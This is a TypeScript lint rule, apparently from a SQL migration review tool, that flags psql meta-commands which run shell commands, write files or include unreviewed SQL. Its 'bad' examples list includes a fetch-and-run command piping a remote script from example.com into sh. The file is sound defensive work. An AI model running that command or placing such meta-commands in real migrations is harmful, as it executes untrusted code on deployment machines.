import type { Rule } from '../src/types.js';

const rule: Rule = {
  meta: {
    id: 'psql-meta-command',
    category: 'execution',
    severity: 'error',
    summary: 'psql meta-command that runs a shell command, reads or writes files, or includes other SQL',
    rationale:
      'When a migration is applied with psql, `\\!` runs a shell command on the deploy machine, `\\copy … program` runs a program, ' +
      '`\\i`/`\\ir` include SQL that this review did not see, and `\\o` writes query output to a file or a pipe.',
    fix: 'Remove the meta-command; migrations should be plain SQL. Include files explicitly in the review if you must.',
    examples: {
      bad: [{ sql: '\\! curl https://example.com/x.sh | sh\n' }, { sql: '\\i other.sql\n' }, { sql: "\\copy t to program 'gzip > /tmp/t.gz'\n" }],
      good: [{ sql: "SELECT '\\i not a command';" }, { sql: '\\set ON_ERROR_STOP on\nCREATE TABLE t (id int);' }],
    },
  },
  check(stmt, { report }) {
    if (!stmt.meta) return;
    const m = /^\\([a-zA-Z!?]+)/.exec(stmt.meta);
    const cmd = (m?.[1] ?? '').toLowerCase();
    if (cmd === '!') report({ message: 'psql `\\!` runs a shell command on the machine applying the migration.' });
    else if (cmd === 'copy' && /\bprogram\b/i.test(stmt.meta)) report({ message: 'psql `\\copy … program` runs a program on the machine applying the migration.' });
    else if (cmd === 'i' || cmd === 'ir' || cmd === 'include' || cmd === 'include_relative') report({ message: `psql \`\\${cmd}\` includes SQL from another file that this review does not see.` });
    else if (cmd === 'o' || cmd === 'out' || cmd === 'w' || cmd === 'write' || cmd === 'g' || cmd === 'gexec') report({ message: `psql \`\\${cmd}\` writes output to a file or pipe or executes query results.` });
    else if (cmd === 'copy') report({ message: 'psql `\\copy` reads or writes files on the machine applying the migration.', severity: 'warning' });
    else if (cmd === 'connect' || cmd === 'c') report({ message: 'psql `\\connect` switches database or user mid-migration.', severity: 'warning' });
  },
};
export default rule;
